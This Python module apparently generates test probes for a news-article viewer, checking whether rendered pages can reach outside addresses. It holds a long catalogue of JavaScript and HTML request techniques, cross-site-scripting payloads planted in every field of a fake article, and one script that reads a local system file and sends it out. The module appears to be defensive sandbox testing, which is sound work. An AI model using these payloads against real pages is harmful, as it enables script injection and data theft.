"""Ways by which a page reaches a computer: scripts that try, and words of an article that would."""

from __future__ import annotations

from msgspec.structs import replace

from explorer.model import Article, Country, Dossier, Event, Person, Place, Quote

_SCRIPTS = (
    "fetch(URL)",
    "fetch(URL, {mode: 'no-cors'})",
    "fetch(URL, {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'})",
    "(() => { const r = new XMLHttpRequest(); r.open('GET', URL); r.send(); })()",
    "(() => { const r = new XMLHttpRequest(); r.open('POST', URL, false); r.send('x'); })()",
    "navigator.sendBeacon(URL, 'x')",
    "new WebSocket(URL.replace('http', 'ws'))",
    "new EventSource(URL)",
    "new WebTransport(URL.replace('http:', 'https:'))",
    "new Image().src = URL",
    "put('<img src=\"URL\">')",
    "put('<img srcset=\"URL 2x\">')",
    "put('<picture><source srcset=\"URL\"><img></picture>')",
    "put('<iframe src=\"URL\"></iframe>')",
    "put('<iframe srcdoc=\"<img src=URL>\"></iframe>')",
    "put('<object data=\"URL\"></object>')",
    "put('<embed src=\"URL\">')",
    "put('<video src=\"URL\" autoplay></video>')",
    "put('<video poster=\"URL\"></video>')",
    "put('<audio src=\"URL\" autoplay preload=auto></audio>')",
    "put('<video><track default src=\"URL\"></video>')",
    "put('<input type=image src=\"URL\">')",
    "put('<div style=\"background: url(URL)\">x</div>')",
    "put('<div style=\"border-image: url(URL); cursor: url(URL), auto\">x</div>')",
    "put('<div style=\"content: url(URL); mask: url(URL); filter: url(URL#a)\">x</div>')",
    "put('<style>@import \"URL\";</style>')",
    "put('<style>@font-face{font-family:f;src:url(URL)}*{font-family:f}</style>')",
    "put('<svg><image href=\"URL\" width=9 height=9 /></svg>')",
    "put('<svg><use href=\"URL#a\" /></svg>')",
    "put('<svg><style>*{fill:url(URL#a)}</style><rect width=9 height=9 /></svg>')",
    "put('<body background=\"URL\">')",
    "put('<table background=\"URL\"><tr><td>x</table>')",
    "put('<base href=\"URL\"><img src=a>')",
    "put('<meta http-equiv=refresh content=\"0;url=URL\">')",
    "put('<form action=\"URL\" method=post></form>').submit()",
    "put('<a href=\"URL\">x</a>').click()",
    "put('<a href=\"URL\" download>x</a>').click()",
    'put(\'<a href="#" ping="URL">x</a>\').click()',
    "put('<a href=\"URL\" target=_blank>x</a>').click()",
    "link('stylesheet')",
    "link('preload', {as: 'image'})",
    "link('prefetch')",
    "link('preconnect')",
    "link('dns-prefetch')",
    "link('modulepreload')",
    "link('prerender')",
    "link('icon')",
    "link('manifest')",
    "put('<script src=\"URL\"><\\/script>')",
    "script({src: URL})",
    "script({type: 'module', src: URL})",
    "script({type: 'speculationrules', textContent: "
    "JSON.stringify({prefetch: [{source: 'list', urls: [URL]}]})})",
    "script({textContent: 'fetch(\"' + URL + '\")'})",
    "import(URL)",
    "new Worker(URL)",
    "new Worker(URL, {type: 'module'})",
    "new Worker(made('importScripts(\"' + URL + '\")'))",
    "new Worker(made('fetch(\"' + URL + '\")'))",
    "new SharedWorker(URL)",
    "navigator.serviceWorker.register(URL)",
    "caches.open('a').then((c) => c.add(URL))",
    "window.open(URL)",
    "location.href = URL",
    "location.replace(URL)",
    "location.assign(URL)",
    "document.location = URL",
    "history.pushState(0, '', URL)",
    "top.location = URL",
    "document.write('<img src=\"URL\">')",
    "new FontFace('f', 'url(' + URL + ')').load()",
    "CSS.paintWorklet.addModule(URL)",
    "new AudioContext().audioWorklet.addModule(URL)",
    "new Audio(URL).play()",
    "navigator.mediaDevices.getUserMedia({video: true})",
    "navigator.geolocation.getCurrentPosition(() => 0)",
    "new DOMParser().parseFromString('<img src=\"URL\">', 'text/html')",
    "document.implementation.createHTMLDocument('').body.innerHTML = '<img src=\"URL\">'",
    "put('<div></div>').attachShadow({mode: 'open'}).innerHTML = '<img src=\"URL\">'",
    "eval('fetch(URL)')",
    "new Function('u', 'fetch(u)')(URL)",
    "setTimeout('fetch(\"' + URL + '\")', 0)",
    "call({iceServers: [{urls: 'stun:' + URL.slice(7, -1)}]})",
    "call({iceServers: [{urls: 'turn:' + URL.slice(7, -1) + '?transport=tcp', "
    "username: 'a', credential: 'b'}]})",
    "fetch('file:///etc/hostname').then((r) => r.text()).then((t) => fetch(URL + t))",
    "new URLPattern(URL); fetch(new Request(URL, {credentials: 'include', mode: 'cors'}))",
)
_HELP = """
const put = (html) => { const box = document.createElement('div'); box.innerHTML = html;
  document.body.append(box); return box.firstElementChild; };
const link = (rel, more) => document.head.append(
  Object.assign(document.createElement('link'), {rel, href: URL}, more));
const script = (of) => document.head.append(Object.assign(document.createElement('script'), of));
const made = (words) => self.URL.createObjectURL(new Blob([words]));
const call = (how) => { const peer = new RTCPeerConnection(how); peer.createDataChannel('a');
  peer.onicecandidate = (e) => e.candidate && window.candidates.push(e.candidate.candidate);
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer)); };
"""


def scripts(addresses: tuple[str, ...]) -> list[str]:
    """Return scripts that try to reach each of the addresses, one way each; none of them raises."""
    return [
        f"(() => {{ const URL = '{url}'; {_HELP} window.candidates ??= []; window.tried ??= 0; "
        f"window.tried += 1; "
        f"try {{ Promise.resolve({_in(way, url)}).catch(() => 0); }} catch (e) {{}} return 1; }})()"
        for url in addresses
        for way in _SCRIPTS
    ]


def _in(way: str, url: str) -> str:
    # In HTML the name is the address itself; statements become the value of a function.
    way = way.replace("URL", url) if "<" in way else way
    return f"(() => {{ {way}; }})()"


_MARKUP = (
    '<img src="{}">', '<script>fetch("{}")</script>', "<iframe src={}></iframe>",
    "<svg/onload=fetch('{}')>", '"><img src=x onerror="fetch(\'{}\')">', "[a]({})", "![a]({})",
    "url({})", '<link rel=stylesheet href="{}">', "javascript:fetch('{}')", "{}", "<{}>",
    "</script><script src={}></script>", "<style>@import '{}';</style>", "{{{{constructor}}}} {}",
    "<a href='{}' ping='{}'>a</a>", "<meta http-equiv=refresh content='0;url={}'>",
    "`${{fetch('{}')}}`",
    "<form action={}><button autofocus onfocus=submit()>", "\\u003cimg src={}\\u003e",
)  # fmt: skip


def documents(address: str) -> list[Dossier]:
    """Return articles whose every word is a way to reach the address."""
    return [_document(markup.replace("{}", address), address) for markup in _MARKUP]


def _document(words: str, address: str) -> Dossier:
    place = Place(name=words, country="KZ", lat=43.2, lon=76.9)
    event = Event(id="e", summary=words, date_text=words, kind="talks", place=place,
                  countries=("KZ",), date="2022-11-30", precision="day")  # fmt: skip
    quote = Quote(id="q", text=words, kind="sentence", speaker_id="p", speaker=words, cue=words)
    article = Article(title=words, outlet=words, author=words, text=words, url=address)
    return Dossier(
        article=replace(article, file=words),
        countries=(Country(code="KZ", name=words, role="about", focus=1.0),),
        people=(Person(id="p", name=words, role=words, country="KZ", leader=True),),
        quotes=(quote,),
        events=(event,),
    )
